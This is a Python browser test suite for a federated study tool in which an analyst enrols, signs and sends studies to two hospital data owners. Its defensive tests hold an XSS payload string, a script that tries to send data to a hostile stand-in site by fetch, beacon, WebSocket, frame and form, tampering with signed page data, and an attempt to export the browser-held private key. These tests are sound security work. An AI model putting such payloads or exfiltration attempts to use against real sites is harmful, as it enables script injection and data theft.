"""An analyst who has a browser and nothing else enrols, asks and reads; and what attacks on that find."""

import base64
import json
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, redirect_stdout, suppress
from dataclasses import dataclass, field
from io import StringIO
from pathlib import Path
from typing import Any

import httpx
import pytest
from browser import Visitor, hostile_site, visitor

from tacit.client.sign_in import make_sign_in_link, party_door
from tacit.client.transcripts import result_in
from tacit.command.app import run
from tacit.setup.configuration import DataSetSetup, PolicySetup
from tacit.setup.federation import LocalFederation, OwnerSetup
from tacit.setup.processes import free_ports
from tacit_protocol.signing import PrivateKey

pytestmark = pytest.mark.slow

UNITS = 1500
TITLE = "Are the patients of north and south alike?"
DECLARED = """
[[data_sets.columns]]
kind = "numeric"
name = "age"
lower = 0
upper = 120

[[data_sets.columns]]
kind = "categorical"
name = "sex"
levels = ["F", "M"]
"""


@pytest.fixture(scope="module")
def federation(
    browser: Any,
    patients: Any,
    eventually: Callable[[Callable[[], Any]], Any],
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[LocalFederation]:
    """Two hospitals that publish what they hold, and answer any analyst by themselves."""
    folder, owners = tmp_path_factory.mktemp("new-study"), []
    for name, source in patients(folder, {"north": 50.0, "south": 58.0}, UNITS, seed=7):
        policy = PolicySetup(approval="automatic", columns=("age", "sex"), catalogue=True)
        owners.append(OwnerSetup(name, DataSetSetup("patients", source, 6.0, 1e-4), policy))
    federation = LocalFederation(folder / "federation", owners)
    for site in federation.agents:
        policy_file, own = site.folder / "policy.toml", site.configuration
        policy_file.write_text(re.sub(r"analysts = .*", 'analysts = ["*"]', policy_file.read_text()))
        about = f'about = "Patients of {site.name}"\nunits = {UNITS}\n'
        own.write_text(
            own.read_text().replace('name = "patients"\n', f'name = "patients"\n{about}') + DECLARED
        )
    with federation as started:
        started.wait_until_ready()
        started.enrol_all()
        # A page names the data sets that had arrived when it was asked for.
        with started.tester_client() as operator:
            eventually(lambda: len(operator.catalogues()) == 2)
        yield started


@dataclass
class NetworkLog:
    """Every request that a window made, as text: its address, headers and body."""

    requests: list[str] = field(default_factory=list)

    def note(self, request: Any) -> None:
        body = request.post_data_buffer or b""
        self.requests.append(
            "\n".join([request.method, request.url, str(request.headers), body.decode("latin-1")])
        )

    def holds(self, secret: bytes) -> list[str]:
        """Return the requests that hold these bytes in any usual spelling."""
        spellings = {secret.decode("latin-1"), secret.hex(), secret.hex().upper()}
        for padding in range(3):  # base64 of the bytes wherever they begin within three
            for encode in (base64.b64encode, base64.urlsafe_b64encode):
                text = encode(b"\0" * padding + secret).decode()
                spellings.add(text[4:-4])
        return [text for text in self.requests if any(spelling in text for spelling in spellings)]


@contextmanager
def watched(browser: Any) -> Iterator[tuple[Visitor, NetworkLog]]:
    with visitor(browser) as person:
        log = NetworkLog()
        person.page.on("request", log.note)
        yield person, log


def write_question(person: Visitor, url: str, title: str = TITLE) -> None:
    person.page.goto(f"{url}/new")
    person.page.get_by_label("What do you want to know?").fill(title)
    for owner in ("north", "south"):
        person.page.get_by_label(f"{owner}/patients").check()


def review(person: Visitor, url: str, title: str = TITLE) -> None:
    """Reach the page that signs: a question, two boxes, two buttons."""
    write_question(person, url, title)
    person.page.get_by_role("button", name="Continue").click()
    person.page.get_by_role("button", name="See what would leave").click()
    person.page.get_by_role("heading", name="Sign and send").wait_for()


def sign_in_with_the_file(person: Visitor, federation: LocalFederation) -> None:
    person.use_link(make_sign_in_link(party_door(federation.analyst.configuration)).url)


def test_an_analyst_who_has_only_the_page_asks_two_owners_and_reads_the_verdict(
    federation: LocalFederation, browser: Any
) -> None:
    url = federation.tester.url
    with federation.tester_client() as operator:
        invitation = operator.invite("analyst", "ann").invitation
    with watched(browser) as (ann, _):
        page = ann.page
        page.goto(f"{url}/key")
        page.get_by_role("button", name="Make a key and enrol").wait_for()
        ann.require_accessible()
        page.get_by_label("Your name").fill("ann")
        page.get_by_label("The invitation").fill(invitation)
        page.get_by_role("button", name="Make a key and enrol").click()
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("button", name="Sign out").wait_for()

        write_question(ann, url)
        ann.require_accessible()
        ann.picture("tester-new-study")
        page.get_by_role("button", name="Continue").click()
        page.get_by_role("button", name="See what would leave").wait_for()
        # Both owners publish both columns: they are chosen, as they were declared.
        assert page.locator("input[name=bounds-0]").input_value() == "0 to 120"
        assert page.locator("input[type=checkbox]:checked").count() == 2
        ann.require_accessible()
        ann.picture("tester-new-columns")
        page.get_by_role("button", name="See what would leave").click()
        page.get_by_text("What the steward of north, south will read").wait_for()
        page.locator("#plan #words").wait_for()
        page.locator("#bytes summary").click()
        assert page.locator("#signed-fields tr", has_text="owners › 2 › name").inner_text().endswith("south")
        ann.require_accessible()
        page.locator("#bytes summary").click()
        page.evaluate("scrollTo(0, 0)")
        ann.picture("tester-review")
        page.get_by_role("button", name="Sign and send", exact=True).click()
        page.get_by_role("heading", name="Verdict", exact=True).wait_for()
        digest = page.url.rsplit("/", 1)[1]
        assert "differ" in page.locator("#live .lead").inner_text()

        # The key cannot be read out, by anyone who runs in the page.
        taken = page.evaluate(
            """async () => {
                const opened = await new Promise((resolve) => {
                    const request = indexedDB.open("tacit", 1);
                    request.onsuccess = () => resolve(request.result);
                });
                const record = await new Promise((resolve) => {
                    const request = opened.transaction("keys").objectStore("keys").getAll();
                    request.onsuccess = () => resolve(request.result[0]);
                });
                const outcomes = [];
                for (const format of ["pkcs8", "jwk", "raw"]) {
                    outcomes.push(await crypto.subtle.exportKey(format, record.pair.privateKey).then(
                        () => "exported", (error) => error.name));
                }
                return outcomes;
            }"""
        )
        assert taken == ["InvalidAccessError"] * 3
        assert ann.complaints == []

        # Signed out, this browser comes back by itself; nobody else's does.
        page.get_by_role("button", name="Sign out").click()
        page.goto(f"{url}/")
        page.get_by_role("link", name="with a key that this browser keeps").click()
        page.get_by_role("button", name="Sign in with it").click()
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("link", name=TITLE).wait_for()
        assert all("401" in complaint for complaint in ann.complaints)
    with federation.tester_client() as client:
        verified = result_in(
            client.transcript(digest), digest=digest, tester_key=federation.tester_key, progress=None
        )
        assert verified.verdict["reject"] is True
        assert client.study_content(digest).analyst.name == "ann"


@pytest.mark.long
def test_a_study_is_asked_again_with_another_epsilon_and_signed_with_a_key_file(
    federation: LocalFederation, browser: Any, tmp_path: Path
) -> None:
    url, key_file = federation.tester.url, federation.analyst.folder / "party.pem"
    with watched(browser) as (person, log):
        page = person.page
        sign_in_with_the_file(person, federation)
        review(person, url)
        page.get_by_text("This browser holds no key of yours").wait_for()
        with page.expect_download() as download:
            page.get_by_role("link", name="the study", exact=True).click()
        study = tmp_path / download.value.suggested_filename
        download.value.save_as(study)
        party = str(federation.analyst.configuration)
        assert run(["study", "create", str(study), "--party", party, "--force"]) == 0
        with federation.analyst_client() as client:
            first = next(one.digest for one in client.studies() if one.digest.startswith(study.stem[6:]))

        page.goto(f"{url}/studies/{first}")
        page.get_by_role("link", name="Ask it again").click()
        page.get_by_label("Epsilon").fill("0.5")
        page.get_by_role("button", name="See what would leave").click()
        page.locator("#key-file").set_input_files(key_file)
        page.get_by_role("button", name="Sign with the file and send").click()
        page.get_by_role("heading", name="The study", exact=True).wait_for()
        again = page.url.rsplit("/", 1)[1]
        # In no request is the key, in whatever spelling: its seed are the last 32 bytes of the file's.
        pem = key_file.read_text()
        der = base64.b64decode("".join(pem.splitlines()[1:-1]))
        assert len(log.requests) > 10
        assert log.holds(der[-32:]) == log.holds(der) == []
        assert [text for text in log.requests if "PRIVATE KEY" in text] == []
        assert person.complaints == []
        # A page that sent it would have been seen.
        seed = der[-32:]
        for leak in (
            seed.hex(),
            base64.b64encode(seed).decode(),
            base64.urlsafe_b64encode(b"x" + der).decode(),
        ):
            seen = len(log.holds(seed))
            with page.expect_response("**/healthz?**"):
                page.evaluate("(leak) => fetch('/healthz?' + leak)", leak)
            assert len(log.holds(seed)) == seen + 1
    with federation.analyst_client() as client:
        before, after = client.study_content(first), client.study_content(again)
        assert (before.budget.epsilon, after.budget.epsilon) == (1.0, 0.5)
        assert (before.domain, before.owners, before.parameters) == (
            after.domain,
            after.owners,
            after.parameters,
        )


@pytest.mark.long
def test_a_plan_becomes_a_study_with_one_click(federation: LocalFederation, browser: Any) -> None:
    url = federation.tester.url
    with visitor(browser) as person:
        page = person.page
        sign_in_with_the_file(person, federation)
        page.goto(f"{url}/plan")
        page.get_by_label("Procedure").select_option("noisy_counts")
        page.get_by_label("Columns and their public bounds").fill("sex=F,M")
        page.get_by_label("Units of each owner", exact=True).fill("500")
        page.get_by_label("Epsilon", exact=True).fill("0.25")
        page.get_by_role("button", name="Simulate").click()
        page.get_by_role("link", name="Make it a study").click()
        page.get_by_label("What do you want to know?").fill("How many women and men?")
        page.get_by_label("north/patients").check()
        page.get_by_role("button", name="Continue").click()
        assert page.get_by_label("Epsilon").input_value() == "0.25"
        chosen = page.locator("li", has=page.locator("input[type=checkbox]:checked"))
        assert [text.split()[0] for text in chosen.all_inner_texts()] == ["sex"]
        assert page.locator("#procedure").input_value() == "noisy_counts"
        assert person.complaints == []


SPOILT = {
    "other bytes than the digest": "found.dataset.payload = "
    "btoa(atob(found.dataset.payload).replace('0.05', '0.04'))",
    "another digest": "found.dataset.digest = 'ab'.repeat(32)",
    "another analyst": "found.dataset.analyst = 'ab'.repeat(32)",
}


@pytest.mark.long
@pytest.mark.parametrize("spoilt", SPOILT)
def test_the_browser_signs_nothing_that_was_swapped(
    federation: LocalFederation, browser: Any, spoilt: str
) -> None:
    with watched(browser) as (person, log):
        sign_in_with_the_file(person, federation)
        # The page is spoilt as it arrives, before its script runs.
        person.page.add_init_script(
            "document.addEventListener('readystatechange', () => {"
            "const found = document.querySelector('[data-signing]');"
            f"if (found && document.readyState === 'interactive') {{ {SPOILT[spoilt]} }} }})"
        )
        review(person, federation.tester.url, f"Do they differ? {spoilt}")
        person.page.get_by_text("nothing is signed").wait_for()
        assert person.page.locator("[data-needs-script]").is_hidden()
        assert [text for text in log.requests if text.startswith("PUT")] == []


def swapped(field: str, value: Any) -> Callable[[Any], None]:
    """Answer the form as a tester would that puts words of its own into the study: its digest fits."""

    def answer(route: Any) -> None:
        if route.request.method != "POST" or "step=review" not in (route.request.post_data or ""):
            route.continue_()
            return
        body = re.sub(rf"(^|&){field}=[^&]*", rf"\1{field}={value}", route.request.post_data)
        route.continue_(post_data=body)

    return answer


@pytest.mark.sweep(1)
@pytest.mark.parametrize(
    ("field_name", "value"), [("title", "Swapped"), ("epsilon", "0.9"), ("level", "0.2")]
)
def test_the_browser_signs_nothing_that_the_form_did_not_say(
    federation: LocalFederation, browser: Any, field_name: str, value: str
) -> None:
    with watched(browser) as (person, log):
        sign_in_with_the_file(person, federation)
        person.page.route("**/new", swapped(field_name, value))
        review(person, federation.tester.url)
        person.page.get_by_text("The study is not what you wrote in the form: nothing is signed.").wait_for()
        assert person.page.locator("[data-needs-script]").is_hidden()
        assert [text for text in log.requests if text.startswith("PUT")] == []


@pytest.mark.long
def test_a_key_that_is_not_enrolled_signs_nothing_that_is_taken(
    federation: LocalFederation, browser: Any, tmp_path: Path
) -> None:
    stranger = tmp_path / "stranger.pem"
    stranger.write_bytes(PrivateKey.generate().to_pem())
    rubbish = tmp_path / "rubbish.pem"
    rubbish.write_text("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
    with watched(browser) as (person, log):
        sign_in_with_the_file(person, federation)
        review(person, federation.tester.url)
        for file, words in ((stranger, "That is another key"), (rubbish, "holds no Ed25519 private key")):
            person.page.locator("#key-file").set_input_files(file)
            person.page.get_by_role("button", name="Sign with the file and send").click()
            person.page.get_by_text(words).wait_for()
        assert [text for text in log.requests if text.startswith("PUT")] == []


@pytest.mark.long
def test_script_in_a_page_reaches_no_other_origin_and_runs_from_none(
    federation: LocalFederation, browser: Any
) -> None:
    """A hostile script in the page tries to fetch, to send a form, to load an image, a frame and a script."""
    with hostile_site("<p>evil</p>") as evil, watched(browser) as (person, _):
        sign_in_with_the_file(person, federation)
        review(person, federation.tester.url)
        expected = ["connect-src", "img-src", "frame-src", "script-src-elem", "form-action"]
        tried = person.page.evaluate(
            """async ([evil, expected]) => {
                const violations = [];
                const note = (event) => violations.push(event.effectiveDirective);
                document.addEventListener("securitypolicyviolation", note);
                await fetch(evil + "/fetch", {method: "POST", mode: "no-cors", body: "k"}).catch(() => {});
                try { navigator.sendBeacon(evil + "/beacon", "k"); } catch {}
                try { new WebSocket(evil.replace("http", "ws") + "/socket"); } catch {}
                new Image().src = evil + "/image";
                for (const name of ["iframe", "script"]) {
                    const made = document.createElement(name);
                    made.src = evil + "/" + name;
                    document.body.append(made);
                }
                const inline = document.createElement("script");
                inline.textContent = "window.inlineRan = true";
                document.body.append(inline);
                const form = document.createElement("form");
                form.action = evil + "/form";
                form.method = "post";
                document.body.append(form);
                form.submit();
                for (let turn = 0; turn < 300; turn++) {  // a report comes when the browser has time for it
                    if (expected.every((directive) => violations.includes(directive))) break;
                    await new Promise((resolve) => setTimeout(resolve, 100));
                }
                return {violations, ran: window.inlineRan === true};
            }""",
            [evil, expected],
        )
        assert set(expected) <= set(tried["violations"])
        assert tried["ran"] is False
        assert person.page.url.startswith(federation.tester.url)


HOSTILE = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\'"&'


@pytest.mark.long
def test_words_of_the_form_are_never_more_than_words(federation: LocalFederation, browser: Any) -> None:
    with visitor(browser) as person:
        page = person.page
        sign_in_with_the_file(person, federation)
        title = f"Do they differ? {HOSTILE}"
        write_question(person, federation.tester.url, title)
        page.get_by_role("button", name="Continue").click()
        page.get_by_text("What it is for").click()
        for name in ("purpose", "contact", "approval_number"):
            page.locator(f"[name={name}]").fill(HOSTILE)
        page.get_by_role("button", name="See what would leave").click()
        page.locator("#bytes summary").click()
        assert page.locator("#signed-fields tr", has_text="purpose").inner_text().endswith(HOSTILE)
        assert page.locator("h1").inner_text() == title
        page.get_by_role("button", name="Change something").click()
        assert page.get_by_label("What do you want to know?").input_value() == title
        for name in ("unit_column", "epsilon", "bounds-0", "column-2", "bounds-2", "units-0"):
            field_input = page.locator(f"[name={name}]")
            field_input.evaluate("(input, text) => { input.value = text; }", HOSTILE)
        page.get_by_role("button", name="See what would leave").click()
        page.locator("#faults").wait_for()
        assert page.evaluate("window.hacked") is None
        assert all("422" in complaint for complaint in person.complaints)


@pytest.mark.long
def test_json_of_requests_is_what_the_command_would_send(federation: LocalFederation, browser: Any) -> None:
    """The envelope has the one spelling that services take: sorted keys, no spaces."""
    with watched(browser) as (person, log):
        sign_in_with_the_file(person, federation)
        review(person, federation.tester.url, "Do they differ in spelling?")
        person.page.locator("#key-file").set_input_files(federation.analyst.folder / "party.pem")
        person.page.get_by_role("button", name="Sign with the file and send").click()
        person.page.get_by_role("heading", name="The study", exact=True).wait_for()
        digest = person.page.url.rsplit("/", 1)[1]
        (put,) = [text for text in log.requests if text.startswith("PUT")]
    body = put.split("\n", 3)[3]
    assert json.dumps(json.loads(body), sort_keys=True, separators=(",", ":")) == body
    with federation.analyst_client() as client:
        assert client.study(digest).title == "Do they differ in spelling?"


@dataclass
class Effort:
    """What people do: commands, fields, clicks, and pages that they see."""

    commands: int = 0
    fields: int = 0
    clicks: int = 0
    pages: int = 0

    def run(self, *arguments: str) -> str:
        self.commands += 1
        out = StringIO()
        with redirect_stdout(out):
            assert run(list(arguments)) == 0, out.getvalue()
        return out.getvalue()

    def serve(self, *arguments: str) -> "subprocess.Popen[bytes]":
        self.commands += 1
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        program = "import sys; from tacit.command.app import run; sys.exit(run(sys.argv[1:]))"
        return subprocess.Popen([sys.executable, "-c", program, *arguments], **quiet)

    def watch(self, person: Visitor) -> Any:
        def count(frame: Any) -> None:
            self.pages += frame == person.page.main_frame

        person.page.on("framenavigated", count)
        return person.page

    def fill(self, field: Any, value: str) -> None:
        self.fields += 1
        field.fill(value)

    def click(self, target: Any) -> None:
        self.clicks += 1
        target.click()


@pytest.mark.long
@pytest.mark.timeout(900)
def test_from_an_empty_machine_to_a_verdict_of_two_owners_by_pages(
    browser: Any, patients: Any, eventually: Callable[[Callable[[], Any]], Any], tmp_path: Path
) -> None:
    """Run with -s for the figures that docs/how-to/use-the-pages.md states; the counts are held to."""
    effort, begun, processes = Effort(), time.monotonic(), []
    ports = dict(zip(("tester", "north", "south"), free_ports(3), strict=True))
    urls = {name: f"http://127.0.0.1:{port}" for name, port in ports.items()}
    tester = tmp_path / "tester"
    config = ["--config", str(tester / "tester.toml")]
    out = effort.run("tester", "init", "--folder", str(tester), "--port", str(ports["tester"]))
    key = re.search("[0-9a-f]{64}", out)
    assert key is not None
    files = dict(patients(tmp_path, {"north": 50.0, "south": 58.0}, UNITS, seed=7))

    def is_up(name: str) -> bool:
        with suppress(httpx.TransportError):
            return httpx.get(f"{urls[name]}/healthz").status_code == 200
        return False

    def invited(role: str, name: str) -> str:
        said = effort.run("party", "invite", "--role", role, "--name", name, *config)
        return said.splitlines()[1].strip()

    try:
        processes.append(effort.serve("tester", "serve", *config))
        eventually(lambda: is_up("tester"))
        for name, source in files.items():
            folder = tmp_path / f"{name}-data"
            folder.mkdir()
            shutil.copy(source, folder / "patients.csv")
            made = ("--folder", str(tmp_path / name), "--name", name, "--port", str(ports[name]))
            at = ("--tester-url", urls["tester"], "--tester-key", key[0])
            effort.run("agent", "init", *made, *at, "--data-folder", str(folder), "--catalogue")
            own = ["--config", str(tmp_path / name / "agent.toml")]
            effort.run("agent", "enrol", "--invitation", invited("owner", name), *own)
            processes.append(effort.serve("agent", "serve", *own))
            eventually(lambda name=name: is_up(name))
        invitation = invited("analyst", "ann")
        services = time.monotonic() - begun
        with ExitStack() as stack:
            people = {name: stack.enter_context(visitor(browser)) for name in ("north", "south", "ann")}
            pages = {name: effort.watch(person) for name, person in people.items()}
            for name in ("north", "south"):
                page = pages[name]
                link = effort.run("agent", "login", "--config", str(tmp_path / name / "agent.toml"))
                page.goto(next(word for word in link.split() if word.startswith("http")))
                effort.click(page.get_by_role("button", name="Sign in"))
                effort.click(page.get_by_role("link", name="Data sets"))
                effort.click(page.get_by_role("link", name="Add a data set"))
                effort.fields += 1
                page.get_by_label("In the folders that agent.toml allows").select_option(index=1)
                effort.click(page.get_by_role("button", name="Next: its columns"))
                effort.fill(page.get_by_label("All ε that may ever be spent"), "6")
                effort.fill(page.get_by_label("All δ that may ever be spent"), "1e-4")
                effort.click(page.get_by_role("button", name="Add the data set"))
                effort.click(page.get_by_role("link", name="Let studies use it"))
                effort.click(page.get_by_role("button", name="Save"))
                page.get_by_role("heading", name="Changes").wait_for()
            page = pages["ann"]
            page.goto(f"{urls['tester']}/key")
            effort.fill(page.get_by_label("Your name"), "ann")
            effort.fill(page.get_by_label("The invitation"), invitation)
            effort.click(page.get_by_role("button", name="Make a key and enrol"))
            effort.click(page.get_by_role("button", name="Sign in"))
            page.get_by_role("button", name="Sign out").wait_for()

            def is_offered() -> bool:
                page.goto(f"{urls['tester']}/new")
                return all(page.get_by_label(f"{name}/patients").count() for name in files)

            eventually(is_offered)
            effort.fill(page.get_by_label("What do you want to know?"), TITLE)
            for name in files:
                effort.click(page.get_by_label(f"{name}/patients"))
            effort.click(page.get_by_role("button", name="Continue"))
            effort.click(page.get_by_role("button", name="See what would leave"))
            page.get_by_role("heading", name="Sign and send").wait_for()
            effort.click(page.get_by_role("button", name="Sign and send", exact=True))
            for name in files:
                own = pages[name]
                own.goto(f"{urls[name]}/")
                own.get_by_role("link", name=TITLE).wait_for()
                effort.click(own.get_by_role("link", name=TITLE))
                effort.click(own.get_by_role("button", name="Approve and spend"))
            page.get_by_role("heading", name="Verdict", exact=True).wait_for()
            assert "differ" in page.locator("#live .lead").inner_text()
            assert all(person.complaints == [] for person in people.values())
    finally:
        for process in processes:
            process.terminate()
        for process in processes:
            process.wait(60)
    took = time.monotonic() - begun
    sys.stdout.write(f"{effort}, {services:.0f} s until the services run, {took:.0f} s in all\n")
    assert (effort.commands, effort.fields) == (13, 9)
    assert effort.clicks <= 30
